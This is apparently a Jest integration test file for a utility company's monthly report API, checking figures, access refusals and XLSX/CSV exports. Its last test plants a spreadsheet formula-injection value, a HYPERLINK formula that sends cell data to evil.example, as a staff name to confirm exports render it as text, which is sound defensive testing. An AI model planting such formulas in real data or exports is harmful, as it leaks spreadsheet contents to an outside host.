import ExcelJS from 'exceljs';
import { ErrorCode, MonthlyReportView, nextPeriod, previousPeriod, reportDueAt } from '@utility/shared';
import { expectRefused, login } from '../testing/api-fixtures';
import { startPaymentsTestApp } from '../testing/payment-fixtures';
import { TestApp } from '../testing/test-app';
import { DataSource } from 'typeorm';
import { Staff } from '../staff/staff.entity';
import {
  RATING_FACTS,
  RETURN_VISIT_FACTS,
  RatingFactsProvider,
  ReturnVisitFactsProvider,
} from './report-fact-providers';
import { FixtureMonth, afterMonth, buildFixtureMonth, fixturePeriod, onDay, staffId } from '../testing/report-fixtures';

/** The monthly report over a month built through the API, every figure counted by hand below. */
describe('monthly report', () => {
  let t: TestApp;
  let m: FixtureMonth;
  beforeAll(async () => {
    t = await startPaymentsTestApp();
    m = await buildFixtureMonth(t);
    // Until the feedback module lands, its facts come through the provider tokens: two ratings, one visit.
    const tech1 = await staffId(t, 'tech1');
    const agent1 = await staffId(t, 'agent1');
    jest.spyOn(t.app.get<RatingFactsProvider>(RATING_FACTS), 'ratingFacts').mockResolvedValue([
      { ticketId: m.tickets.t1, staffId: tech1, level: 'very_satisfied', at: onDay(3, '15:00') },
      { ticketId: m.tickets.t3, staffId: agent1, level: 'dissatisfied', at: onDay(6, '15:00') },
    ]);
    jest
      .spyOn(t.app.get<ReturnVisitFactsProvider>(RETURN_VISIT_FACTS), 'returnVisitFacts')
      .mockResolvedValue([{ ticketId: m.tickets.t1, completedAt: onDay(4, '10:00') }]);
  });
  afterAll(async () => {
    jest.restoreAllMocks();
    await t.close();
  });

  const monthly = async (username: string, query = '') => {
    const res = await t
      .http()
      .get(`/api/reports/monthly?period=${fixturePeriod()}${query}`)
      .set('Authorization', await login(t, username));
    expect(res.status).toBe(200);
    return res.body as MonthlyReportView;
  };

  it("gives exactly the hand-counted figures, for the company and for a supervisor's district", async () => {
    t.setNow(afterMonth());
    const report = await monthly('admin');
    expect(report).toMatchObject({ period: fixturePeriod(), districtId: null, status: 'draft', frozenAt: null });
    const f = report.figures;
    const [east, west] = f.districts.map((d) => d.id);
    expect(f.tickets).toEqual({
      rows: [
        { type: 'repair', districtId: east, count: 2 },
        { type: 'complaint', districtId: east, count: 1 },
        { type: 'complaint', districtId: west, count: 1 },
      ],
      byType: [
        { type: 'repair', count: 2 },
        { type: 'complaint', count: 2 },
      ],
      total: 4,
    });
    // Respond: all four answered at intake. On site: T1 met, T2 an hour late. Resolve: T4's five working days ran out.
    expect(f.onTime).toEqual([
      { clock: 'respond', counted: 4, onTime: 4, late: 0, rate: 1 },
      { clock: 'on_site', counted: 2, onTime: 1, late: 1, rate: 0.5 },
      { clock: 'resolve', counted: 4, onTime: 3, late: 1, rate: 0.75 },
      // Complaints' 3-day first reply: T3 answered by its resolution, T4 never.
      { clock: 'first_reply', counted: 2, onTime: 1, late: 1, rate: 0.5 },
      // Nobody recorded a call on T1 or T2: arriving stopped their 30-minute contact clocks late.
      { clock: 'contact', counted: 2, onTime: 0, late: 2, rate: 0 },
      { clock: 'decision', counted: 0, onTime: 0, late: 0, rate: null },
      { clock: 'opinion', counted: 0, onTime: 0, late: 0, rate: null },
      { clock: 'answer', counted: 0, onTime: 0, late: 0, rate: null },
    ]);
    // Every fixture ticket came by phone: its clocks are the 14 above, 9 on time.
    expect(f.channels).toEqual([{ channel: 'phone', received: 4, clocks: 14, onTime: 9, rate: 0.6429 }]);
    expect(f.complaints).toEqual({ received: 2, resolved: 1, rate: 0.5 });
    expect(f.satisfaction).toEqual({
      ratings: 2,
      satisfied: 1,
      rate: 0.5,
      byLevel: { very_satisfied: 1, satisfied: 0, fairly_satisfied: 0, dissatisfied: 1 },
    });
    // T1, T2 (repairs) and T3 (complaint) were resolved: all three must be visited; only T1 was.
    expect(f.returnVisits).toEqual({ due: 3, visited: 1, rate: 0.3333 });
    expect(f.hazards).toEqual({ found: 0, closed: 0, openAtEnd: 0 });
    const [refunded, second, third] = m.paidFen;
    expect(f.payments).toEqual({
      payments: { count: 3, totalFen: refunded + second + third },
      byMethod: {
        wechat: { count: 3, totalFen: refunded + second + third },
        cash: { count: 0, totalFen: 0 },
        pos: { count: 0, totalFen: 0 },
        bank_transfer: { count: 0, totalFen: 0 },
        bank_debit: { count: 0, totalFen: 0 },
      },
      refunds: { count: 1, totalFen: refunded },
      netFen: second + third,
      // The seeded October bills fall due on the 20th: the two kept payments leave arrears, the refunded one is owed again.
      arrears: {
        count: m.arrearsBefore.count - 2,
        totalFen: m.arrearsBefore.totalFen - second - third,
        accounts: m.arrearsBefore.accounts - 2,
      },
    });
    expect(f.staff).toEqual(
      [
        {
          staffId: await staffId(t, 'agent1'),
          name: '王晓梅',
          role: 'agent',
          handled: 1,
          onTimeRate: 1,
          ratings: 1,
          averageRating: 1,
        },
        {
          staffId: await staffId(t, 'tech1'),
          name: '张师傅',
          role: 'technician',
          handled: 2,
          // Neither of his repairs had its resident called within 30 minutes (contact), so none was all on time.
          onTimeRate: 0,
          ratings: 1,
          averageRating: 4,
        },
      ].sort((a, b) => a.staffId - b.staffId),
    );

    const mine = await monthly('supervisor1');
    expect(mine.districtId).toBe(east);
    expect(mine.figures.tickets.total).toBe(3);
    expect(mine.figures.complaints).toEqual({ received: 1, resolved: 1, rate: 1 });
    expect(mine.figures.payments.payments).toEqual({ count: 3, totalFen: refunded + second + third });
    expect((await monthly('admin', `&districtId=${west}`)).figures.complaints).toEqual({
      received: 1,
      resolved: 0,
      rate: 0,
    });
  });

  it('refuses who may not read it and what is not a report: 403, 400, 409', async () => {
    t.setNow(afterMonth());
    const west = (await monthly('admin')).figures.districts[1].id;
    const get = async (username: string, query: string) =>
      t
        .http()
        .get(`/api/reports/monthly?${query}`)
        .set('Authorization', await login(t, username));
    expectRefused(await get('tech1', `period=${fixturePeriod()}`), 403, ErrorCode.Forbidden);
    expectRefused(await get('supervisor1', `period=${fixturePeriod()}&districtId=${west}`), 403, ErrorCode.Forbidden);
    expectRefused(await get('admin', 'period=2026-13'), 400, ErrorCode.ValidationFailed);
    const pdf = await t
      .http()
      .get(`/api/reports/monthly/export?period=${fixturePeriod()}&format=pdf`)
      .set('Authorization', await login(t, 'admin'));
    expectRefused(pdf, 400, ErrorCode.ValidationFailed);
    const regenerate = await t
      .http()
      .post('/api/reports/monthly/regenerate')
      .set('Authorization', await login(t, 'admin'))
      .send({ period: nextPeriod(fixturePeriod()) });
    expectRefused(regenerate, 409, ErrorCode.ReportPeriodOpen);
    // A month nobody generated before its due time is frozen as first read: regenerating it is refused too.
    const earlier = previousPeriod(fixturePeriod());
    t.setNow(reportDueAt(earlier));
    const late = await t
      .http()
      .post('/api/reports/monthly/regenerate')
      .set('Authorization', await login(t, 'admin'))
      .send({ period: earlier });
    expectRefused(late, 409, ErrorCode.ReportFrozen);
    const stored = await t
      .http()
      .get(`/api/reports/monthly?period=${earlier}`)
      .set('Authorization', await login(t, 'admin'));
    expect(stored.body).toMatchObject({
      period: earlier,
      status: 'frozen',
      frozenAt: reportDueAt(earlier).toISOString(),
    });
  });

  const download = async (format: string) =>
    t
      .http()
      .get(`/api/reports/monthly/export?period=${fixturePeriod()}&format=${format}`)
      .set('Authorization', await login(t, 'admin'))
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      });

  it('exports an XLSX that reads back with the same figures, a sheet per section', async () => {
    t.setNow(afterMonth());
    const f = (await monthly('admin')).figures;
    const res = await download('xlsx');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="monthly-report-${fixturePeriod()}.xlsx"`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body);
    expect(book.worksheets.map((w) => w.name)).toEqual([
      '概况',
      '工单分类',
      '时效',
      '渠道',
      '服务质量',
      '安全隐患',
      '缴费与欠费',
      '停供',
      '人员',
    ]);
    const rows = (sheet: string) => {
      const out: unknown[][] = [];
      book.getWorksheet(sheet)!.eachRow((row) => out.push((row.values as unknown[]).slice(1)));
      return out;
    };
    expect(rows('概况')[1]).toEqual(['月份', fixturePeriod()]);
    expect(rows('工单分类')).toEqual([
      ['工单类型', '片区', '数量'],
      ['一般报修', '城东片区', 2],
      ['投诉', '城东片区', 1],
      ['投诉', '城西片区', 1],
      ['合计', '', 4],
    ]);
    expect(rows('时效')).toEqual([
      ['时限', '应计', '按时', '超时', '按时率'],
      ['响应', 4, 4, 0, 1],
      ['到场', 2, 1, 1, 0.5],
      ['办结', 4, 3, 1, 0.75],
      ['首次答复', 2, 1, 1, 0.5],
      ['联系用户', 2, 0, 2, 0],
      ['办理决定', 0, 0, 0],
      ['处理意见', 0, 0, 0],
      ['答复', 0, 0, 0],
    ]);
    expect(rows('停供')).toEqual([
      ['停供次数', '停供时长（小时）', '影响户数', '已通知居民'],
      [0, 0, 0, 0],
    ]);
    expect(rows('渠道')).toEqual([
      ['受理渠道', '受理数量', '应计时限', '按时', '按时率'],
      ['24小时热线', 4, 14, 9, 0.6429],
    ]);
    expect(book.getWorksheet('时效')!.getCell('E3').numFmt).toBe('0.00%');
    expect(rows('服务质量')[1]).toEqual(['投诉办结率', 2, 1, 0.5]);
    expect(rows('缴费与欠费')[1]).toEqual(['缴费', 3, f.payments.payments.totalFen / 100]);
    expect(rows('缴费与欠费')[2]).toEqual(['　其中微信支付', 3, f.payments.payments.totalFen / 100]);
    expect(rows('缴费与欠费')[3]).toEqual(['　其中现金', 0, 0]);
    expect(rows('缴费与欠费')[9]).toEqual(['月末欠费', f.payments.arrears.count, f.payments.arrears.totalFen / 100]);
    expect(rows('人员').slice(1)).toEqual(
      f.staff.map((s) => [
        s.name,
        s.role === 'agent' ? '客服坐席' : '维修工',
        s.handled,
        s.onTimeRate,
        s.ratings,
        s.averageRating,
      ]),
    );
  });

  it('exports a CSV in UTF-8 with a BOM, every section under its title', async () => {
    t.setNow(afterMonth());
    const res = await download('csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = res.body.subarray(3).toString('utf8');
    expect(text).toContain(
      '【时效】\r\n时限,应计,按时,超时,按时率\r\n响应,4,4,0,100.00%\r\n到场,2,1,1,50.00%\r\n办结,4,3,1,75.00%\r\n',
    );
    expect(text).toContain(
      '【工单分类】\r\n工单类型,片区,数量\r\n一般报修,城东片区,2\r\n投诉,城东片区,1\r\n投诉,城西片区,1\r\n合计,,4\r\n',
    );
  });

  it('a name that a spreadsheet would run as a formula is exported as text, in CSV and XLSX', async () => {
    t.setNow(afterMonth());
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"查看")';
    const staff = t.app.get(DataSource).getRepository(Staff);
    const tech1 = await staff.findOneByOrFail({ username: 'tech1' });
    await staff.update({ id: tech1.id }, { name: formula });
    const regenerate = async () =>
      expect(
        (
          await t
            .http()
            .post('/api/reports/monthly/regenerate')
            .set('Authorization', await login(t, 'admin'))
            .send({ period: fixturePeriod() })
        ).status,
      ).toBe(200);
    await regenerate();
    try {
      const csv = (await download('csv')).body.subarray(3).toString('utf8');
      expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""查看"")",维修工`);
      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load((await download('xlsx')).body);
      const cells = book.getWorksheet('人员')!.getColumn(1).values;
      // ExcelJS writes a string as a string cell, never a formula: the name reads back as typed.
      expect(cells).toContain(formula);
    } finally {
      await staff.update({ id: tech1.id }, { name: tech1.name });
      await regenerate();
    }
  });
});
